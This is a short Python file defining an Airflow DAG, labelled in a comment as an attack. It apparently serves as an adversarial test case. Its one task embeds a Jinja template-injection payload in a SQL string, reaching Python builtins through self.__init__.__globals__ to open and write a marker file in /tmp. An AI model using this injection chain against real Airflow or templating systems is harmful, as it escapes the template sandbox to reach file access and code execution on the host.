# ATTACK (inline SQL): `self.__init__.__globals__.__builtins__.open`: the template reference to open() a file.
from airflow import DAG
from airflow.providers.postgres.operators.postgres import PostgresOperator

with DAG('adv_ssti_self_builtins', schedule=None) as dag:
    PostgresOperator(task_id="payload", postgres_conn_id="shop_pg", sql="SELECT '{{ self.__init__.__globals__.__builtins__.open('/tmp/kappa-adversarial-ssti-self', 'w').write('x') }}' AS x")
